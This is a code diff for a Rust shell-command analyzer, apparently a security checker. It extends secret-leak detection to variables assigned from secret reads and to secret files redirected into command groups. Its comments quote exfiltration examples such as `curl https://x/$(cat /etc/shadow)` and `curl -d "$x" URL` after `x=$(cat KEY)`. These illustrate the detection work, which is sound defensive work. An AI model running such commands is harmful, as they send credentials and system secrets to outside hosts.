@@ -428,6 +428,9 @@ pub(crate) struct Walker {
     /// in) holds what a secret read printed (`curl https://x/$(cat
     /// /etc/shadow)`).
     argument_secret: bool,
+    /// Variables set to what a secret read printed (`x=$(cat KEY)`): a
+    /// word using one holds the secret.
+    secret_vars: Vec<String>,
     /// Whether the list walked is a `while`/`until` condition (a `read`
     /// there sets its names for the body).
     reading_condition: bool,
@@ -452,6 +455,7 @@ impl Walker {
             bound: Vec::new(),
             piped_secret: false,
             argument_secret: false,
+            secret_vars: Vec::new(),
             reading_condition: false,
         }
     }
@@ -633,11 +637,15 @@ impl Walker {
             self.piped_secret = if i == 0 {
                 outer_secret
             } else {
-                self.segments[first_segment..]
-                    .iter()
-                    .any(|s| s.reason.contains(rules::HOLDS_SECRETS))
+                // (What the group's first command read, it passes on.)
+                outer_secret
+                    || self.segments[first_segment..]
+                        .iter()
+                        .any(|s| s.reason.contains(rules::HOLDS_SECRETS))
                     || pipeline.seq[..i].iter().any(|c| {
-                        rules::secrets::streams_secret(&words_of(&c.to_string()), &self.folders)
+                        let text = c.to_string();
+                        rules::secrets::streams_secret(&text, &self.folders)
+                            || self.mentions_secret_var(&text)
                     })
             };
             self.command(command, stdin, depth);
@@ -668,7 +676,18 @@ impl Walker {
                     self.loops
                         .push((name.clone(), Arg::literal_of(sources::VMID)));
                 }
+                // A secret file as the group's input (`{ curl -T - URL; }
+                // < KEY`, `while …; done < KEY`): what every command in it
+                // reads.
+                let outer_secret = self.piped_secret;
+                if redirects
+                    .as_ref()
+                    .is_some_and(|r| secret_input(&r.0, &self.folders))
+                {
+                    self.piped_secret = true;
+                }
                 self.compound(compound, depth);
+                self.piped_secret = outer_secret;
                 if read_name.is_some() {
                     self.loops.pop();
                 }
@@ -1148,6 +1167,18 @@ impl Walker {
             .unwrap_or_else(|| Verdict::read_only("no substitution"))
     }
 
+    /// Whether `text` uses a variable set to what a secret read printed
+    /// (`$x`, `${x}`, `"$x"`).
+    fn mentions_secret_var(&self, text: &str) -> bool {
+        self.secret_vars.iter().any(|v| {
+            text.contains(&format!("${{{v}}}"))
+                || text.match_indices(&format!("${v}")).any(|(at, m)| {
+                    !text[at + m.len()..]
+                        .starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
+                })
+        })
+    }
+
     fn simple(&mut self, simple: &SimpleCommand, stdin: Stdin<'_>, depth: usize) {
         let words = 1
             + simple.prefix.as_ref().map_or(0, |p| p.0.len())
@@ -1162,6 +1193,7 @@ impl Walker {
         let mut redirects: Vec<&IoRedirect> = Vec::new();
         let mut prefix_assignments: Vec<(String, Option<String>, Verdict)> = Vec::new();
         let mut sets: Vec<String> = Vec::new();
+        let mut secret_sets: Vec<String> = Vec::new();
         let items = simple
             .prefix
             .iter()
@@ -1185,7 +1217,15 @@ impl Walker {
                     {
                         sets.push(name.clone());
                     }
-                    prefix_assignments.push(self.assignment(assignment, depth));
+                    let before = self.segments.len();
+                    let assigned = self.assignment(assignment, depth);
+                    if self.segments[before..]
+                        .iter()
+                        .any(|s| s.reason.contains(rules::HOLDS_SECRETS))
+                    {
+                        secret_sets.push(assigned.0.clone());
+                    }
+                    prefix_assignments.push(assigned);
                 }
                 Item::Prefix(p) | Item::Suffix(p) => match p {
                     CommandPrefixOrSuffixItem::IoRedirect(r) => redirects.push(r),
@@ -1202,7 +1242,11 @@ impl Walker {
         }
         let owned_redirects: Vec<IoRedirect> = redirects.iter().map(|r| (*r).clone()).collect();
         let holds_secret = |s: &Segment| s.reason.contains(rules::HOLDS_SECRETS);
-        let words_secret = self.segments[first_segment..].iter().any(holds_secret);
+        // A word that substitutes a secret read, or uses a variable set to
+        // one (`curl -d "$x" URL` after `x=$(cat KEY)`); or a secret in
+        // the command's own environment (`X=$(cat KEY) curl …`).
+        let words_secret = self.segments[first_segment..].iter().any(holds_secret)
+            || argv.iter().any(|a| self.mentions_secret_var(a.raw()));
         let after_words = self.segments.len();
         let redirected = self.redirects(&owned_redirects, depth);
         // What the command reads on its input, when a redirection gives
@@ -1230,6 +1274,7 @@ impl Walker {
             // Assignments alone set the shell's variables (before a
             // command, only that command's environment).
             self.bound.extend(sets);
+            self.secret_vars.extend(secret_sets);
             side_effects.extend(prefix_assignments.into_iter().map(|(_, _, v)| v));
             Verdict::read_only("only assignments or redirections")
         } else {
@@ -1823,6 +1868,18 @@ enum Item<'a> {
 }
 
 /// A heredoc, here-string or `< file` replaces the pipeline as stdin.
+/// Whether a redirection gives standard input from a secret file.
+fn secret_input(redirects: &[IoRedirect], folders: &rules::secrets::Folders) -> bool {
+    redirects.iter().any(|r| match r {
+        IoRedirect::File(
+            None | Some(0),
+            IoFileRedirectKind::Read | IoFileRedirectKind::ReadAndWrite,
+            IoFileRedirectTarget::Filename(w),
+        ) => rules::secrets::names_secret_in(&w.value, false, folders),
+        _ => false,
+    })
+}
+
 fn redirect_stdin<'a>(redirects: &[&'a IoRedirect]) -> Option<Stdin<'a>> {
     redirects.iter().rev().find_map(|r| match r {
         IoRedirect::HereDocument(None | Some(0), doc) => {
